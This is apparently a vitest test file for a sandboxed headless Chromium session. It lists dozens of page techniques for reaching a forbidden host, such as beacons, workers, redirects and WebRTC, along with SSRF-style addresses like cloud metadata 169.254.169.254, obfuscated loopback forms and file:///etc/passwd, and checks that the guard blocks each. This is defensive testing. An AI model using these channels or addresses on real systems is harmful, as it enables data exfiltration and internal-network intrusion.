import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type IncomingMessage, type Server, type ServerResponse } from "node:http";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import { BrowserSession, type BrowserOptions } from "../../src/capabilities/browser/index.ts";
import { chromiumPath } from "../chromium.ts";

/** The page under attack may load from `site` only. `target` records every connection that reaches it. */
let site = "";
let target = "";
/** Stands for the target in the browser without an allow list, whose icons may be requested after its pages are closed. */
let decoy = "";
let isDecoyReached = false;
/** The host that the attacks name: `target` or `decoy`. */
let aim = "";
const hits: string[] = [];
const servers: Server[] = [];
const udp = createSocket("udp4");
const decoyUdp = createSocket("udp4");
const profiles = mkdtempSync(join(tmpdir(), "reeve-attacks-chromium-"));
let executablePath = "";
let page = "";
let guarded: BrowserSession;
let unguarded: BrowserSession;
/** Resolves when `allow` has been asked about the target. */
let asked = Promise.withResolvers<void>();

async function serve(answer: (request: IncomingMessage, response: ServerResponse) => void): Promise<string> {
  const server = createServer(answer).listen(0, "127.0.0.1");
  server.on("connection", (socket) => {
    if (server === servers[1]) hits.push("connection");
    if (server === servers[2]) isDecoyReached = true;
    socket.on("error", () => socket.destroy());
  });
  servers.push(server);
  await once(server, "listening");
  return `127.0.0.1:${(server.address() as AddressInfo).port}`;
}

function session(options: BrowserOptions): BrowserSession {
  const args = ["--headless=new", "--disable-gpu"];
  return new BrowserSession({ executablePath, args, ...options });
}

beforeAll(async () => {
  site = await serve((request, response) => {
    const { pathname } = new URL(request.url ?? "/", "http://site");
    if (pathname === "/away") return response.writeHead(302, { location: `http://${aim}/hit` }).end();
    if (pathname === "/away307") return response.writeHead(307, { location: `http://${aim}/hit` }).end();
    if (pathname === "/to")
      return response
        .writeHead(302, { location: new URL(request.url ?? "", "http://site").search.slice(1) })
        .end();
    if (pathname === "/twice") return response.writeHead(302, { location: "/away" }).end();
    if (pathname === "/refresh") response.setHeader("refresh", `0;url=http://${aim}/hit`);
    if (pathname === "/link") response.setHeader("link", `<http://${aim}/hit>; rel=preload; as=image`);
    if (pathname === "/csp")
      response.setHeader("content-security-policy", `img-src 'none'; report-uri http://${aim}/hit`);
    const script = pathname.endsWith(".js");
    response.setHeader("content-type", script ? "text/javascript" : "text/html");
    return response.end(
      script ? decodeURIComponent(new URL(request.url ?? "", "http://site").search.slice(1)) : page,
    );
  });
  target = await serve((request, response) => {
    hits.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("secret");
  });
  decoy = await serve((_request, response) => {
    isDecoyReached = true;
    response.setHeader("access-control-allow-origin", "*");
    response.end("secret");
  });
  decoyUdp.on("message", () => (isDecoyReached = true));
  decoyUdp.bind(Number(new URL(`http://${decoy}`).port), "127.0.0.1");
  udp.on("message", () => hits.push("udp"));
  udp.bind(Number(new URL(`http://${target}`).port), "127.0.0.1");
  // The profiles of Chromium are in the temporary folder; this one is deleted with the tests.
  vi.stubEnv("TMPDIR", profiles);
  executablePath = await chromiumPath();
  guarded = session({
    allowPrivate: true,
    allow: ({ host }) => {
      if (host === target) asked.resolve();
      return host === site;
    },
  });
  unguarded = session({ allowPrivate: true });
});

afterAll(async () => {
  await guarded.close();
  await unguarded.close();
  udp.close();
  decoyUdp.close();
  for (const server of servers) {
    server.closeAllConnections();
    server.close();
  }
  vi.unstubAllEnvs();
  rmSync(profiles, { recursive: true, force: true });
});

// A test that fails must not fail the following ones.
afterEach(async ({ task }) => {
  hits.length = 0;
  if (task.result?.state !== "fail") return;
  await guarded.close();
  await unguarded.close();
});

interface Attack {
  readonly name: string;
  /** Path of the page. Default: `/`. */
  readonly path?: string;
  /** HTML of the page, or the script in it. `TARGET` stands for the forbidden host. */
  readonly html?: string;
  readonly script?: string;
  /** Whether the attack reaches the target in a browser without an allow list. Default: `true`. */
  readonly isReal?: boolean;
}

const inWorker = (code: string, kind = "Worker"): string =>
  `new ${kind}("/w.js?" + encodeURIComponent(${JSON.stringify(code)}))`;

const attacks: readonly Attack[] = [
  { name: "an image", html: `<img src="http://TARGET/hit">` },
  { name: "an image with srcset", html: `<img srcset="http://TARGET/hit 1x">` },
  { name: "a script", html: `<script src="http://TARGET/hit"></script>` },
  { name: "a module script", script: `import("http://TARGET/hit").catch(() => {})` },
  { name: "a style sheet", html: `<link rel="stylesheet" href="http://TARGET/hit">` },
  { name: "an @import", html: `<style>@import url("http://TARGET/hit");</style>` },
  { name: "a CSS background", html: `<div style="background:url(http://TARGET/hit)">x</div>` },
  {
    name: "a font",
    html: `<style>@font-face{font-family:f;src:url(http://TARGET/hit)}</style><p style="font-family:f">x</p>`,
  },
  { name: "a frame", html: `<iframe src="http://TARGET/hit"></iframe>` },
  { name: "a sandboxed frame", html: `<iframe sandbox src="http://TARGET/hit"></iframe>` },
  { name: "a frame with srcdoc", html: `<iframe srcdoc="<img src='http://TARGET/hit'>"></iframe>` },
  { name: "an object", html: `<object data="http://TARGET/hit"></object>` },
  { name: "an embedded file", html: `<embed src="http://TARGET/hit">` },
  { name: "a video", html: `<video src="http://TARGET/hit" preload="auto"></video>` },
  { name: "a video poster", html: `<video poster="http://TARGET/hit"></video>` },
  { name: "an SVG image", html: `<svg><image href="http://TARGET/hit"/></svg>` },
  { name: "an image input", html: `<input type="image" src="http://TARGET/hit">` },
  { name: "a preload", html: `<link rel="preload" as="image" href="http://TARGET/hit">` },
  { name: "a module preload", html: `<link rel="modulepreload" href="http://TARGET/hit">` },
  { name: "a prefetch", html: `<link rel="prefetch" href="http://TARGET/hit">` },
  { name: "a preconnect", html: `<link rel="preconnect" href="http://TARGET">`, isReal: false },
  { name: "a preload in a header", path: "/link" },
  { name: "a meta refresh", html: `<meta http-equiv="refresh" content="0;url=http://TARGET/hit">` },
  { name: "a refresh in a header", path: "/refresh" },
  { name: "a CSP report", path: "/csp", html: `<img src="/x.png">` },
  { name: "fetch", script: `fetch("http://TARGET/hit")` },
  { name: "fetch without CORS", script: `fetch("http://TARGET/hit", { mode: "no-cors" })` },
  {
    name: "fetch with keepalive",
    script: `fetch("http://TARGET/hit", { method: "POST", body: "x", keepalive: true })`,
  },
  {
    name: "XMLHttpRequest",
    script: `const x = new XMLHttpRequest(); x.open("GET", "http://TARGET/hit"); x.send()`,
  },
  { name: "a beacon", script: `navigator.sendBeacon("http://TARGET/hit", "x")` },
  { name: "an event source", script: `new EventSource("http://TARGET/hit")` },
  { name: "a WebSocket", script: `new WebSocket("ws://TARGET/hit")` },
  { name: "a navigation", script: `location.href = "http://TARGET/hit"` },
  { name: "a new window", script: `open("http://TARGET/hit")`, isReal: false },
  {
    name: "a form",
    html: `<form action="http://TARGET/hit"></form><script>document.forms[0].submit()</script>`,
  },
  {
    name: "a form with POST",
    html: `<form method="post" action="http://TARGET/hit"></form><script>document.forms[0].submit()</script>`,
  },
  {
    name: "a link with ping",
    html: `<a href="#" ping="http://TARGET/hit">x</a><script>document.links[0].click()</script>`,
  },
  { name: "fetch in a worker", script: inWorker(`fetch("http://TARGET/hit")`) },
  { name: "importScripts in a worker", script: inWorker(`importScripts("http://TARGET/hit")`) },
  { name: "a WebSocket in a worker", script: inWorker(`new WebSocket("ws://TARGET/hit")`) },
  { name: "fetch in a nested worker", script: inWorker(inWorker(`fetch("http://TARGET/hit")`)) },
  {
    name: "fetch in a blob worker",
    script: `new Worker(URL.createObjectURL(new Blob(['fetch("http://TARGET/hit")'])))`,
  },
  { name: "fetch in a shared worker", script: inWorker(`fetch("http://TARGET/hit")`, "SharedWorker") },
  {
    name: "a WebSocket in a shared worker",
    script: inWorker(`new WebSocket("ws://TARGET/hit")`, "SharedWorker"),
  },
  {
    name: "fetch in a service worker",
    script: `navigator.serviceWorker.register("/w.js?" + encodeURIComponent('fetch("http://TARGET/hit")')).catch(() => {})`,
    isReal: false,
  },
  { name: "an image after a redirect", html: `<img src="/away">` },
  { name: "fetch after a redirect", script: `fetch("/away")` },
  {
    name: "a POST after a redirect",
    script: `fetch("/away307", { method: "POST", body: "x", mode: "no-cors" })`,
  },
  { name: "a frame after two redirects", html: `<iframe src="/twice"></iframe>` },
  { name: "fetch in a worker after a redirect", script: inWorker(`fetch("/away")`) },
  {
    name: "WebRTC",
    script: `const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:TARGET" }] }); p.createDataChannel("x"); p.createOffer().then((o) => p.setLocalDescription(o))`,
    isReal: false,
  },
  {
    name: "WebTransport",
    script: `new WebTransport("https://TARGET/hit").ready.catch(() => {})`,
    isReal: false,
  },
];

/** Opens the page of an attack. It ends with an image of the site, so that everything before it has been started. */
async function attack(browser: BrowserSession, { path = "/", html = "", script }: Attack): Promise<void> {
  const code = script === undefined ? "" : `<script>${script}</script>`;
  page = `<!doctype html><title>x</title>${html}${code}<p>end</p>`.replaceAll("TARGET", aim);
  await browser.open(`http://${site}${path}`, { newTab: true });
}

async function closeTabs(browser: BrowserSession): Promise<void> {
  for (const { id } of (await browser.getState()).tabs) await browser.closeTab(id);
}

/** Waits until a condition holds, at most 3 seconds. */
async function within3s(done: () => boolean): Promise<boolean> {
  for (const end = Date.now() + 3_000; Date.now() < end;) {
    if (done()) return true;
    await new Promise((resolve) => {
      setTimeout(resolve, 10);
    });
  }
  return done();
}

describe("a page that may load from one host only", () => {
  test.each(attacks)(
    "a page that may load from one host only cannot reach another host by $name",
    async (each) => {
      [aim, isDecoyReached] = [decoy, false];
      await attack(unguarded, each);
      // Without the allow list the attack works; otherwise the test below would prove nothing.
      expect(each.isReal === false || (await within3s(() => isDecoyReached))).toBe(true);
      await closeTabs(unguarded);
      aim = target;
      asked = Promise.withResolvers();
      await attack(guarded, each);
      let isAsked = false;
      void asked.promise.then(() => (isAsked = true));
      await within3s(() => isAsked || hits.length > 0);
      await closeTabs(guarded);
      expect(hits).toEqual([]);
    },
  );
});

const resolve = async (hostname: string) => {
  const addresses: Readonly<Record<string, string>> = {
    "site.example": "127.0.0.1",
    "inner.example": "127.0.0.1",
    "metadata.example": "169.254.169.254",
    "mixed.example": "93.184.215.14 10.0.0.1",
    "six.example": "::1",
  };
  const found = (addresses[hostname] ?? "127.0.0.1").split(" ");
  return found.map((address) => ({ address, family: address.includes(":") ? 6 : 4 }) as const);
};

describe("a browser without allowPrivate", () => {
  test.each([
    "http://127.0.0.1:PORT/hit",
    "http://localhost:PORT/hit",
    "http://127.1:PORT/hit",
    "http://2130706433:PORT/hit",
    "http://0x7f000001:PORT/hit",
    "http://0177.0.0.1:PORT/hit",
    "http://0.0.0.0:PORT/hit",
    "http://[::1]:PORT/hit",
    "http://[::ffff:127.0.0.1]:PORT/hit",
    "http://127.0.0.1.:PORT/hit",
    "http://169.254.169.254/latest/meta-data/",
    "http://10.0.0.1/",
    "http://192.168.0.1/",
    "http://100.64.0.1/",
    "http://[fe80::1]/",
    "http://[fd00::1]/",
    "http://inner.example:PORT/hit",
    "https://inner.example:PORT/hit",
    "http://metadata.example/",
    "http://mixed.example/",
    "http://six.example:PORT/hit",
    "http://user:password@inner.example:PORT/hit",
    "file:///etc/passwd",
    "chrome://version",
    "view-source:http://127.0.0.1/",
    "javascript:alert(1)",
    "data:text/html,<script>fetch('http://127.0.0.1:PORT/hit')</script>",
    "blob:http://127.0.0.1:PORT/hit",
    "ftp://127.0.0.1:PORT/hit",
    "ws://127.0.0.1:PORT/hit",
  ])("a browser without allowPrivate does not open %s", async (address) => {
    const url = address.replace("PORT", new URL(`http://${target}`).port);
    const browser = session({ resolve });
    await expect(browser.open(url)).rejects.toMatchObject({ code: "permission_denied" });
    await browser.close();
    expect(hits).toEqual([]);
  });

  test.each(
    ["127.0.0.1", "localhost", "127.1", "[::ffff:127.0.0.1]", "inner.example"].flatMap((host) =>
      ["image", "redirect", "worker", "WebSocket"].map((kind) => ({ host, kind })),
    ),
  )("lets a public page reach $host by no $kind", async ({ host, kind }) => {
    const { port } = new URL(`http://${target}`);
    const [from, to] = [`site.example:${new URL(`http://${site}`).port}`, `${host}:${port}`];
    const ways = {
      image: { html: `<img src="http://${to}/hit">` },
      redirect: { html: `<iframe src="/to?http://${to}/hit"></iframe>` },
      worker: { script: inWorker(`fetch("http://${to}/hit")`) },
      WebSocket: { script: `new WebSocket("ws://${to}/hit")` },
    };
    const { html = "", script = "" } = ways[kind as keyof typeof ways] as Partial<Attack>;
    let lookups = 0;
    const browser = session({
      allowPrivate: ["site.example"],
      resolve,
      allow: (url) => {
        if (url.port === port) lookups++;
        return true;
      },
    });
    try {
      page = `<!doctype html><title>x</title>${html}<script>${script}</script>`;
      await browser.open(`http://${from}/`);
      expect(await within3s(() => lookups > 0)).toBe(true);
      // The answer to a later request of the page proves that the earlier one was handled.
      await browser.open(`http://${from}/`, { newTab: true });
      expect(hits).toEqual([]);
    } finally {
      await browser.close();
    }
  });
});
